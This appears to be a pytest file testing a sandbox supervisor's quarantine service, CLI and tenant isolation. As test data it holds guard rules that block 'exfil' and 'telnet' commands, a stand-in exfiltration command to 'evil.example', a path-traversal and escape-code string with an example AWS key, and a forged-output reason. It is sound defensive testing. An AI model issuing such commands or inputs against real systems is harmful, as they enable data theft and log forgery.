"""QuarantineService through the real gRPC server and the Python client, on an in-memory
engine: a guard rule marked quarantine quarantines the sandbox (the call denied, the alarm
told to watchers, later calls FAILED_PRECONDITION with the clear message), show gives the
evidence, release and destroy end it, another tenant sees and reaches nothing of it, and
wrong or hostile input to every RPC is refused."""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from stockade.client import (
    Alarm,
    AsyncStockade,
    FailedPrecondition,
    InvalidArgument,
    NotFound,
)
from stockade.supervisor.app import build_policy
from stockade.supervisor.auth import Authenticator
from stockade.supervisor.cli.main import main
from stockade.supervisor.cli.parsing import parse
from stockade.supervisor.fronts.grpc.server import Server
from tests.unit.fakes import FakeBackend, fake_manager, served_config

TOKEN_A, TOKEN_B = "a" * 32, "b" * 32


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[tuple[Server, FakeBackend, str]]:
    rules = [
        {"name": "no-exfil", "pattern": r"^exfil\b", "action": "quarantine"},
        {"name": "no-telnet", "pattern": r"^telnet\b"},
    ]
    config = served_config(tmp_path, f"{TOKEN_A} acme\n{TOKEN_B} other\n", **{"guard.rules": rules})
    backend = FakeBackend()
    manager = fake_manager(config, backend)
    await manager.start()
    policy = build_policy(config)
    server = Server(config, manager, policy, Authenticator(config.auth))
    await server.start()
    try:
        yield server, backend, f"127.0.0.1:{server.port}"
    finally:
        await server.stop(0)


async def test_a_guard_rule_marked_quarantine_quarantines(
    served: tuple[Server, FakeBackend, str],
) -> None:
    server, backend, target = served
    async with AsyncStockade(target, token=TOKEN_A) as a, AsyncStockade(target, token=TOKEN_B) as b:
        got: list[Alarm] = []
        other: list[Alarm] = []

        async def watch(client: AsyncStockade, into: list[Alarm]) -> None:
            async for alarm in client.watch_alarms():
                into.append(alarm)

        watchers = [asyncio.create_task(watch(a, got)), asyncio.create_task(watch(b, other))]
        await asyncio.sleep(0.2)  # the watchers are subscribed
        ok = await a.call("box", "exec", {"command": "echo hi"})
        assert not ok.is_error
        plain = await a.call("box", "exec", {"command": "telnet x"})
        assert plain.is_error, "a plain deny rule denies"
        assert not await a.list_quarantines(), "and quarantines nothing"
        denied = await a.call("box", "exec", {"command": "exfil --to evil.example 4444"})
        assert denied.is_error
        assert denied.error_code == "PERMISSION_DENIED"
        assert "guard" in denied.error_message
        await server.alarms.settled()
        with pytest.raises(FailedPrecondition) as refused:
            await a.call("box", "exec", {"command": "echo again"})
        assert "sandbox 'box' is quarantined since" in str(refused.value)
        assert "`stockade quarantine show box`" in str(refused.value)
        assert (await a.get_sandbox("box")).quarantined_at is not None
        (held,) = await a.list_quarantines()
        assert held.sandbox_key == "box"
        assert held.frozen
        assert [i.paused for i in backend.containers.values()] == [True], "frozen, kept"
        assert "no-exfil" in held.reason
        shown = await a.get_quarantine("box")
        assert shown.quarantine.alarms[0].evidence == "exfil --to evil.example 4444"
        tools = [(r.tool, r.policy_step) for r in shown.audit]
        assert any(t == "alarm" and s.startswith("alarm: guard at guard: ") for t, s in tools)
        assert any(r.tool == "exec" and r.guard_rule == "no-exfil" for r in shown.audit)
        assert shown.audit == sorted(shown.audit, key=lambda r: r.time or 0)
        # another tenant: nothing to see, nothing to reach, its own "box" untouched
        assert not await b.list_quarantines()
        with pytest.raises(NotFound):
            await b.get_quarantine("box")
        with pytest.raises(NotFound):
            await b.release_quarantine("box")
        assert not (await b.call("box", "exec", {"command": "echo b"})).is_error
        assert (await b.get_sandbox("box")).quarantined_at is None
        await asyncio.sleep(0.2)
        assert [x.kind for x in got] == ["guard"]
        assert got[0].sandbox_key == "box"
        assert other == [], "a tenant never sees another's alarms"
        released = await a.release_quarantine("box")
        assert released.sandbox_key == "box"
        assert not (await a.call("box", "exec", {"command": "echo back"})).is_error
        with pytest.raises(NotFound):
            await a.release_quarantine("box")
        for task in watchers:
            task.cancel()


async def test_quarantine_by_hand_then_destroy(served: tuple[Server, FakeBackend, str]) -> None:
    _, _, target = served
    async with AsyncStockade(target, token=TOKEN_A) as a:
        with pytest.raises(NotFound):
            await a.quarantine_sandbox("nobody", "look")
        await a.call("box", "exec", {"command": "echo hi"})
        held = await a.quarantine_sandbox("box", "looks odd")
        again = await a.quarantine_sandbox("box", "looks odd")
        assert "looks odd" in held.reason
        assert len(again.alarms) == 2, "idempotent: one record, its alarms added"
        with pytest.raises(FailedPrecondition):
            await a.resume_sandbox("box")
        assert await a.destroy_sandbox("box")
        assert not await a.list_quarantines()
        assert not (await a.call("box", "exec", {"command": "echo new"})).is_error


@pytest.mark.parametrize("key", ["", "k\x00", "x" * 300, "\udcff"])
async def test_wrong_keys_are_refused_by_every_rpc(
    served: tuple[Server, FakeBackend, str], key: str
) -> None:
    _, _, target = served
    async with AsyncStockade(target, token=TOKEN_A) as a:
        for call in (a.get_quarantine, a.release_quarantine, a.quarantine_sandbox):
            with pytest.raises((InvalidArgument, NotFound, UnicodeEncodeError)):
                await call(key)


async def test_huge_reasons_and_hostile_text(served: tuple[Server, FakeBackend, str]) -> None:
    _, _, target = served
    async with AsyncStockade(target, token=TOKEN_A) as a:
        await a.call("box", "exec", {"command": "echo hi"})
        with pytest.raises(InvalidArgument, match="reason"):
            await a.quarantine_sandbox("box", "x" * 5000)
        hostile = "\x1b[2J\x00 ../../etc/passwd 'quote\" AKIAIOSFODNN7EXAMPLE"
        held = await a.quarantine_sandbox("box", hostile)
        assert "AKIAIOSFODNN7EXAMPLE" not in held.reason, "scrubbed on the way out"
        assert "etc/passwd" in held.reason


async def test_unauthenticated_callers_are_refused(served: tuple[Server, FakeBackend, str]) -> None:
    from stockade.client import Unauthenticated

    _, _, target = served
    async with AsyncStockade(target, token="c" * 32) as nobody:
        with pytest.raises(Unauthenticated):
            await nobody.list_quarantines()
        with pytest.raises(Unauthenticated):
            async for _ in nobody.watch_alarms():
                pass


@pytest.mark.parametrize(
    ("argv", "fields"),
    [
        (["quarantine", "list"], {"quarantine_command": "list", "json": False}),
        (["quarantine", "show", "--json", "k"], {"key": "k", "json": True}),
        (["quarantine", "release", "k"], {"quarantine_command": "release", "key": "k"}),
        (["quarantine", "destroy", "--delete-workspace", "k"], {"delete_workspace": True}),
        (["quarantine", "add", "k", "why"], {"key": "k", "reason": "why"}),
        (["alarms", "watch", "--json"], {"alarms_command": "watch", "json": True}),
    ],
)
def test_the_commands_arguments(argv: list[str], fields: dict[str, object]) -> None:
    ns = parse(argv)
    assert {name: getattr(ns, name) for name in fields} == fields


@pytest.mark.parametrize(
    "argv", [["quarantine"], ["quarantine", "show"], ["quarantine", "nuke", "k"], ["alarms"]]
)
def test_wrong_arguments_exit_2(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exited:
        parse(argv)
    assert exited.value.code == 2


async def test_the_cli_lists_shows_releases_and_destroys(
    served: tuple[Server, FakeBackend, str], capsys: pytest.CaptureFixture[str]
) -> None:
    _, _, target = served

    async def cli(*argv: str) -> tuple[int, str, str]:
        words = [*argv[:2], "--server", target, "--token", TOKEN_A, *argv[2:]]
        code = await asyncio.to_thread(main, words)
        out, err = capsys.readouterr()
        return code, out, err

    assert await cli("quarantine", "list") == (0, "no sandbox is quarantined\n", "")
    async with AsyncStockade(target, token=TOKEN_A) as a:
        await a.call("box", "exec", {"command": "echo hi"})
        await a.quarantine_sandbox("box", "odd\nfake: released\x1b[2J")
    code, out, _ = await cli("quarantine", "list")
    assert code == 0
    (line,) = out.splitlines()
    assert line.startswith("box  since ")
    assert line.endswith("odd\\nfake: released\\x1b[2J"), "escaped: no forged lines"
    code, out, _ = await cli("ls")
    assert "  quarantined since " in out
    assert "`stockade quarantine show box`" in out
    code, out, _ = await cli("quarantine", "show", "box")
    assert code == 0
    assert "state:   frozen, no network to cut" in out
    assert "guard at operator" in out
    assert "alarm: guard at operator" in out, "the audit slice"
    code, out, _ = await cli("quarantine", "show", "--json", "box")
    shown = json.loads(out)
    assert shown["quarantine"]["sandbox_key"] == "box"
    assert shown["audit"]
    code, out, _ = await cli("quarantine", "release", "box")
    assert (code, out.split(":")[0]) == (0, "box")
    code, out, err = await cli("quarantine", "destroy", "box")
    assert (code, out) == (2, "")
    assert "not quarantined" in err, "destroy takes only a quarantined key"
    async with AsyncStockade(target, token=TOKEN_A) as a:
        await a.quarantine_sandbox("box")
    code, out, _ = await cli("quarantine", "destroy", "box")
    assert (code, out) == (0, "box: destroyed (container removed, workspace kept)\n")
    code, _, err = await cli("quarantine", "show", "nobody")
    assert code == 2
    assert "not quarantined" in err
